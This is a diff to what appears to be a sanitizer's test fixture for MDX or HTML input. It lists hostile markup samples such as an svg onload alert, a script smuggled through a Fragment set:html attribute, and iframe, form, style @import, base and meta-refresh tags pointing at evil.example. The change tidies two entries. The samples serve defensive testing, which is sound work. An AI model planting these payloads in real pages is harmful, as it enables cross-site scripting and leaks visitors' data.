@@ -17,9 +17,7 @@ export const markup: Hostile[] = [
 	html('a drawing split over lines', '<svg\n  onload="alert(1)"\n></svg>'),
 	html('a frame', '<iframe src="https://evil.example/"></iframe>'),
 	html('a form', '<form action="https://evil.example/"><input name="mot" /></form>'),
-	html('a style', '<style>@import "https://evil.example/x.css";</style>', 'mdx-expression').name === ''
-		? html('', '')
-		: html('a style', '<style>@import "https://evil.example/x.css";</style>'),
+	html('a style', '<style>@import "https://evil.example/x.css";</style>'),
 	html('a base address', '<base href="https://evil.example/" />'),
 	html('a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/" />'),
 	html('an object', '<object data="data:text/html,x"></object>'),
@@ -44,7 +42,7 @@ export const markup: Hostile[] = [
 	html('a component with a name of JavaScript and an attribute', '<toString id="a" />'),
 	{ ...html('a component named `__proto__`', '<__proto__ id="a" />'), md: undefined },
 	html('a listed component in small letters', '<callout>Appelez.</callout>'),
-	{ ...code('unknown-component', 'a member of a component', '<Callout.Evil />') },
+	code('unknown-component', 'a member of a component', '<Callout.Evil />'),
 	code('unknown-component', 'a component with a name space', '<svg:script />'),
 	code('unknown-component', 'a fragment', '<>Appelez.</>'),
 	html('a named fragment', '<Fragment set:html="<script>alert(1)</script>" />'),
